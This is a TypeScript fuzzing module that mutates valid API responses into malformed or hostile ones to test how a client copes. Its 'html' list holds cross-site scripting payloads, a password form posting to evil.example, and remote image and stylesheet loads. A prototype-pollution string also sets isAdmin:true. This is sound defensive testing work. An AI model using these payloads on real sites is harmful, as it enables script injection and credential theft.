/**
 * Changes a valid response into one that a broken or hostile server sends: wrong, missing, empty, huge, deep or
 * malicious values at each place, by the type in the contract.
 */
import type { Chance } from './chance.ts';
import { resolve, type Schema, typeOf } from './schema.ts';

export type Path = readonly (string | number)[];

/** One change. `text` is the value as JSON; null takes the field away. */
export interface Mutation {
  readonly path: Path;
  readonly kind: string;
  readonly text: string | null;
}

/** JSON that no value serialises to: `JSON.parse` turns it into Infinity, or drops a key. */
const rawNumbers = ['1e400', '-1e400', '-0'];
/** Amounts that no other response contains: a screen that shows one has parsed a text as an amount. */
export const decoys = ['731.37', '7,310.37'];

const html = [
  '<img src=x onerror="window.hacked=1"><svg onload="window.hacked=1"><script>window.hacked=1</script></svg>',
  '<p style="position:fixed;inset:0;z-index:9999;background:url(//evil.example/a.png)">x</p>',
  '<a href="javascript:window.hacked=1">x</a><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<form action="https://evil.example/"><input name="password" autofocus onfocus="window.hacked=1"></form>',
  '<img src="https://evil.example/p.png" srcset="//evil.example/q.png 2x"><link rel=stylesheet href=//evil.example/c>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
  'javascript:window.hacked=1',
  'https://evil.example/p.png',
  '//evil.example/p.png',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="window.hacked=1"/>',
  "url('https://evil.example/p.png')",
];
const strings: Readonly<Record<string, readonly unknown[]>> = {
  empty: ['', ' ', '\u200b'],
  html,
  'lone surrogate': ['\ud800', 'a\udfffb', '\ud83d'],
  '100 kB': ['x'.repeat(100_000), '<b>'.repeat(33_000), 'ก็'.repeat(50_000)],
  'prototype key': ['__proto__', 'constructor', 'toString', 'hasOwnProperty'],
  'odd letters': ['\u202egnp.exe', '\u0000', 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢', '../../x', '%00', '{"a":1}', '🧑‍🧑‍🧒‍🧒'.repeat(50)],
  'wrong type': [7, -1, true, [], {}, [['x']], { toString: 1 }],
};
const dates: Readonly<Record<string, readonly unknown[]>> = {
  'far date': [
    '0001-01-01T00:00:00Z',
    '9999-12-31T23:59:59Z',
    '+275760-09-13T00:00:00.000Z',
    '-271821-04-20T00:00:00.000Z',
    '1969-12-31T23:59:59Z',
    8.64e15,
    -8.64e15,
    1e300,
    0,
    -1,
  ],
  'no date': ['yesterday', '', 'Invalid Date', '2026-02-30T00:00:00Z', '2026-13-01', 'NaN', 'Infinity', '14/03/2026'],
  'wrong type': [true, {}, [], ['2026-03-14T00:00:00Z']],
  'lone surrogate': ['\ud800'],
  '100 kB': ['2'.repeat(100_000)],
};
const numbers: Readonly<Record<string, readonly unknown[]>> = {
  'text for a number': ['NaN', 'Infinity', '-Infinity', ...decoys, '', '12abc', '1e3', '0'],
  negative: [-1, -612.35, -0.001, -1e21],
  huge: [1e15, 1e21, 1e308, Number.MAX_SAFE_INTEGER, 90_071_992_547_409.91, 612_345_678_901.23],
  fine: [0.001, 0.004, 1.005, 1e-7, 612.345_678, 5e-324],
  zero: [0],
  'wrong type': [true, false, {}, [], [1], { valueOf: 5 }],
};
const flags: Readonly<Record<string, readonly unknown[]>> = {
  'wrong type': ['true', 'false', '', 'NaN', 0, 1, -1, {}, [], 'gone?'],
  turned: [true, false],
};

const deep = (levels: number, around: 'list' | 'object') =>
  around === 'list' ? `${'['.repeat(levels)}${']'.repeat(levels)}` : `${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}`;

const prototypeKeys =
  '"__proto__":{"amount":612.36,"isAdmin":true,"hacked":1},"constructor":{"prototype":{"hacked":1}},"toString":"x","hasOwnProperty":1,"then":"x"';

const anywhere: readonly Omit<Mutation, 'path'>[] = [
  { kind: 'null', text: 'null' },
  { kind: 'deep', text: deep(2_000, 'list') },
  { kind: 'deep', text: deep(2_000, 'object') },
];

/** Mutations of a list, besides those of its items. */
function listMutations(list: readonly unknown[], chance: Chance): Omit<Mutation, 'path'>[] {
  const texts = list.map((item) => JSON.stringify(item));
  const first = texts[0] ?? '{}';
  const many = (count: number) => `[${Array.from({ length: count }, (_, at) => texts[at % texts.length] ?? first)}]`;
  const bad = ['null', '7', '"x"', '[]', '{}', 'true', `{${prototypeKeys}}`];
  const mixed = texts.flatMap((text, at) => (chance.upTo(2) === 0 ? [bad[at % bad.length] ?? 'null', text] : [text]));
  return [
    { kind: 'empty', text: '[]' },
    { kind: 'wrong type', text: chance.pick(['{}', '"x"', '7', 'true', `{"0":${first},"length":1}`]) },
    { kind: 'bad items among good ones', text: `[${chance.pick(bad)},${mixed},${chance.pick(bad)}]` },
    { kind: 'only bad items', text: `[${bad}]` },
    { kind: 'duplicated ids', text: many(texts.length * 2) },
    { kind: 'duplicated ids', text: `[${first},${first},${first}]` },
    { kind: 'unsorted', text: `[${texts.toReversed()}]` },
    { kind: 'unsorted', text: `[${texts.toSorted(() => chance.upTo(3) - 1)}]` },
    { kind: 'nested', text: `[[${texts}]]` },
    { kind: 'huge', text: many(120) },
  ];
}

function objectMutations(value: object): Omit<Mutation, 'path'>[] {
  const inside = JSON.stringify(value).slice(1, -1);
  const joined = inside === '' ? prototypeKeys : `${inside},${prototypeKeys}`;
  return [
    { kind: 'empty', text: '{}' },
    { kind: 'wrong type', text: '[]' },
    { kind: 'wrong type', text: '"x"' },
    { kind: 'wrong type', text: `[{${inside}}]` },
    { kind: 'prototype key', text: `{${joined}}` },
    { kind: 'prototype key', text: `{"__proto__":{${inside}}}` },
    { kind: 'unknown fields', text: `{"x":${deep(50, 'list')},${inside === '' ? '"y":1' : inside}}` },
  ];
}

const from = (table: Readonly<Record<string, readonly unknown[]>>): Omit<Mutation, 'path'>[] =>
  Object.entries(table).flatMap(([kind, values]) => values.map((value) => ({ kind, text: JSON.stringify(value) })));

function scalarMutations(name: string, schema: Schema): Omit<Mutation, 'path'>[] {
  const words = schema.enum ?? schema['x-known-values'];
  const unknown = words
    ? [
        { kind: 'unknown word', text: '"SOMETHING_NEW"' },
        ...words.map((word) => ({ kind: 'other word', text: JSON.stringify(word) })),
      ]
    : [];
  if (name === 'currency')
    unknown.push(...['"LAK"', '"USD"', '"BTC"', '"lak"'].map((text) => ({ kind: 'other currency', text })));
  const type = typeOf(schema);
  if (type === 'boolean') return from(flags);
  if (type === 'number' || type === 'integer')
    return [...from(numbers), ...rawNumbers.map((text) => ({ kind: 'huge', text }))];
  if (schema.format === 'date-time' || name === 'expireIn') return from(dates);
  return [...unknown, ...from(strings)];
}

/** A place in a response with its value. */
interface Place {
  readonly path: Path;
  readonly schema: Schema;
  readonly value: unknown;
}

/** Every place of a valid value; in a list the first item, the last, and one between. */
function placesOf(schema: Schema, value: unknown, chance: Chance, path: Path = []): Place[] {
  const own = resolve(schema);
  const here = { path, schema: own, value };
  if (Array.isArray(value)) {
    const chosen = new Set(value.length === 0 ? [] : [0, value.length - 1, chance.upTo(value.length)]);
    return [here, ...[...chosen].flatMap((at) => placesOf(own.items ?? {}, value[at], chance, [...path, at]))];
  }
  const below = Object.entries(own.properties ?? {}).flatMap(([name, field]) =>
    typeof value === 'object' && value !== null
      ? placesOf(field, (value as Record<string, unknown>)[name], chance, [...path, name])
      : [],
  );
  return [here, ...below];
}

function mutationsAt({ path, schema, value }: Place, chance: Chance): Mutation[] {
  const name = path.findLast((part) => typeof part === 'string') ?? '';
  const own = Array.isArray(value)
    ? listMutations(value, chance)
    : typeof value === 'object' && value !== null
      ? objectMutations(value)
      : typeOf(schema) === 'array'
        ? listMutations([], chance)
        : scalarMutations(String(name), schema);
  const missing = typeof path.at(-1) === 'string' ? [{ kind: 'missing', text: null }] : [];
  return [...anywhere, ...missing, ...own].map((change) => ({ path, ...change }));
}

/** One change of a valid response: a random place, then a random mutation. */
export function mutationOf(schema: Schema, valid: unknown, chance: Chance): Mutation {
  return chance.pick(mutationsAt(chance.pick(placesOf(schema, valid, chance)), chance));
}

/** All kinds of mutations possible on a response, for tests. */
export const kindsOf = (schema: Schema, valid: unknown, chance: Chance): Set<string> =>
  new Set(placesOf(schema, valid, chance).flatMap((place) => mutationsAt(place, chance).map(({ kind }) => kind)));

const slot = '\u0001slot\u0001';

/** The changed response as text for the wire. */
export function mutated(valid: unknown, { path, text }: Mutation): string {
  if (path.length === 0) return text ?? '';
  const copy: unknown = structuredClone(valid);
  let parent = copy as Record<string | number, unknown>;
  for (const key of path.slice(0, -1)) parent = parent[key] as Record<string | number, unknown>;
  const last = path.at(-1) ?? '';
  if (text === null) delete parent[last];
  else parent[last] = slot;
  return JSON.stringify(copy).replace(JSON.stringify(slot), () => text ?? '');
}

/** Human-readable place and mutation, cut to one line. */
export const described = ({ path, kind, text }: Mutation): string =>
  `${path.join('.') || 'the answer'}: ${kind}${text === null ? '' : ` ${text.length > 80 ? `${text.slice(0, 77)}…` : text}`}`;
